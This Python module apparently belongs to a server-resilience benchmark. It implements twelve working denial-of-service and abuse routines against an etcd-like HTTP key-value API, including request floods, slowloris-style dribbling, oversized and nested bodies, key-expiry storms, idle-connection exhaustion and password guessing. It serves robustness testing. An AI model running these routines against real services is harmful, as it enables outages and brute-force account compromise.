"""The kinds of attack: each a function that goes on until its target's end."""

from __future__ import annotations

import select
import socket
import time
from contextlib import ExitStack, suppress
from itertools import count
from typing import TYPE_CHECKING

from bench.attack.requests import FORM, Target, head, put

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence


_SILENT = 1100
_CONTROL = b"%01" * (3 << 20)


def flood(target: Target, requests: Sequence[bytes], *, pause_s: float = 0.0) -> None:
    """Send streams of bytes, each on its connection again and again, and read what comes back."""
    lanes: dict[int, tuple[socket.socket, bytes]] = {}
    sent: dict[int, int] = {}
    poll = select.epoll()

    def add(request: bytes) -> None:
        with suppress(OSError):
            made = target.connect()
            made.setblocking(False)
            lanes[made.fileno()], sent[made.fileno()] = (made, request), 0
            poll.register(made, select.EPOLLIN | select.EPOLLOUT)

    for request in requests:
        add(request)
    while target.goes_on:
        for number, ready in poll.poll(0.1):
            client, request = lanes[number]
            try:
                if ready & select.EPOLLIN and not client.recv(1 << 20):
                    raise ConnectionError
                if ready & select.EPOLLOUT:
                    at = sent[number]
                    sent[number] = (at + client.send(request[at : at + 65536])) % len(request)
            except BlockingIOError:
                continue
            except OSError:
                del lanes[number]
                client.close()
                add(request)
        time.sleep(pause_s or (0.0 if lanes else 0.1))


def hold(target: Target, first: bytes, connections: int, more: bytes, every_s: float) -> None:
    """Keep connections that have sent the first bytes, and send some more now and then."""
    clients: list[socket.socket] = []
    while target.goes_on:
        with suppress(OSError):
            while len(clients) < connections and target.goes_on:
                made = target.connect()
                clients.append(made)
                made.sendall(first)
                made.setblocking(False)
        alive = []
        for client in clients:
            try:
                if more:
                    client.send(more)
                elif not client.recv(1 << 16):
                    continue
                alive.append(client)
            except BlockingIOError:
                alive.append(client)
            except OSError:
                client.close()
        clients = alive
        time.sleep(every_s)


def pipelining(target: Target) -> None:
    """1: sixty-four connections that pipeline."""
    reads = head("GET", "/v2/keys/honest/0") * 500
    flood(target, [reads] * 40 + [put("/v2/keys/clumsy/p", b"value=1") * 500] * 16
          + [head("GET", "/version", user="") * 500] * 8)  # fmt: skip


def reading(target: Target) -> None:
    """2: sixty-four that read without a pause."""
    flood(target, [head("GET", "/v2/keys/honest/0")] * 64)


def forms(target: Target) -> None:
    """3: forms of very many parameters, and bodies of JSON, with and without a user."""
    form = b"+&" * (5 << 20)
    json_body = b"[" * (5 << 20)
    flood(target, [
        put("/v2/keys/clumsy/form", form, user=""), put("/v2/keys/clumsy/form", form),
        head("PUT", "/v2/auth/users/x", f"Content-Length: {len(json_body)}") + json_body,
    ], pause_s=0.2)  # fmt: skip


def dribbling(target: Target) -> None:
    """4: heads, chunks and bodies that come byte by byte."""
    begun = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " + b"a" * (60 << 10)
    hold(target, begun, 400, b"a", 0.1)


def expiring(target: Target) -> None:
    """5: very many keys whose time ends in the same second."""
    for turn in count():
        if not target.goes_on:
            return
        ends = time.monotonic() + 10
        with suppress(OSError), target.connect() as client:
            client.settimeout(10)
            for key in range(20_000):
                left = int(ends - time.monotonic())
                if left < 1 or not target.goes_on:
                    break
                client.sendall(
                    put(f"/v2/keys/clumsy/e/{turn}-{key}", f"value=1&ttl={left}".encode())
                )
                client.recv(65536)
        time.sleep(1)


def listing(target: Target) -> None:
    """6: deep and large trees, listed."""
    with suppress(OSError), target.connect() as client:
        for number in range(8):
            path = f"/v2/keys/clumsy/deep{number}" + "/d" * 2000
            client.sendall(put(path, b"value=1"))
            client.recv(65536)
    flood(target, [head("GET", "/v2/keys/clumsy?recursive=true")] * 4, pause_s=0.1)


def unread(target: Target) -> None:
    """7: large writes whose answers are not read."""
    write = put("/v2/keys/clumsy/large", b"value=" + _CONTROL)
    while target.goes_on:
        with ExitStack() as stack, suppress(OSError):
            for _ in range(8):
                stack.enter_context(target.connect()).sendall(write)
            time.sleep(5)
        time.sleep(1)


def slow(target: Target) -> None:
    """8: readers of a large answer that take their time."""
    with suppress(OSError), target.connect() as client:
        client.sendall(put("/v2/keys/clumsy/wide", b"value=" + b"v" * (4 << 20)))
        client.recv(65536)
    request = head("GET", "/v2/keys/clumsy/wide")
    clients: list[socket.socket] = []
    while target.goes_on:
        with suppress(OSError):
            while len(clients) < 30:
                made = target.connect()
                made.sendall(request)
                clients.append(made)
        for client in list(clients):
            try:
                client.settimeout(0.01)
                if not client.recv(1024):
                    raise ConnectionError
            except TimeoutError:
                continue
            except OSError:
                clients.remove(client)
                client.close()
        time.sleep(0.1)


def bodies(target: Target) -> None:
    """9: bodies that do not end, without credentials."""
    size = 10 << 20
    begun = head(
        "PUT", "/v2/keys/clumsy/b", f"Content-Type: {FORM}", f"Content-Length: {size}", user=""
    )
    hold(target, begun + b"v" * (1 << 20), 26, b"v" * 65536, 0.5)


def caches(target: Target) -> None:
    """10: header blocks, users and paths that are all different, and large."""
    numbers = count()

    def requests() -> bytes:
        number = next(numbers)
        filler = "x" * 3500
        return (
            head("GET", "/v2/keys/honest/0", f"X-{number}: {filler}")
            + head("GET", "/v2/keys/honest/0", user=f"nobody{number}{filler}:x")
            + head("GET", f"/v2/keys/clumsy/{number}{filler * 10}")
        )

    while target.goes_on:
        with suppress(OSError), target.connect() as client:
            for _ in range(100):
                client.sendall(requests())
                client.recv(65536)
                time.sleep(0.01)


def silent(target: Target) -> None:
    """11: very many connections that say nothing."""
    hold(target, b"", _SILENT, b"", 1.0)


def guessing(target: Target) -> None:
    """12: guesses at the passwords of an active user and of users that do not exist."""
    guesses = [
        head("GET", "/v2/keys/honest/0", "Connection: close", user=f"{name}:guess{n}")
        for n in range(100)
        for name in ("honest", f"other{n}")
    ]
    flood(target, guesses, pause_s=0.05)


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        pipelining, reading, forms, dribbling, expiring, listing, unread, slow, bodies, caches,
        silent, guessing,
    )
}  # fmt: skip
